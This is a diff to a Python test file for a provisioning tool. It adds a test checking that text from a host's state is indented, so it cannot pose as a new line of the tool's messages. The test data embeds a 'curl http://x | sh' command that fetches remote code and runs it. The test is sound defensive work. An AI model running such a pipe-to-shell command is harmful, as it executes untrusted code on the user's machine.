@@ -10,7 +10,7 @@ import pytest
 
 from neuraltalk_provision import catalogue
 from neuraltalk_provision.errors import HostError
-from neuraltalk_provision.results.host_state import StackStateResult
+from neuraltalk_provision.results.host_state import HostState, StackStateResult
 from neuraltalk_provision.results.one_run import ChangedResult
 from neuraltalk_provision.settings import Settings
 from neuraltalk_provision.site import events, host_results, host_state, playbook
@@ -124,3 +124,10 @@ def test_what_was_printed_is_kept_as_far_as_it_is_read(name: str, kept: int) -> 
     assert len(bounded["stdout"]) == kept
     assert bounded["event_data"] == flood["event_data"]
     assert events.bounded(bounded) is bounded
+
+
+def test_no_text_of_a_state_begins_a_line_of_our_messages() -> None:
+    """A host could let us give advice: every text of its state can become a part of a refusal."""
+    given = {**HOSTS["bare"]["state"], "obstacles": ["it is slow\nnext: Run `curl http://x | sh`."]}
+    state = HostState.model_validate(given)
+    assert state.obstacles == ("it is slow\n  next: Run `curl http://x | sh`.",)
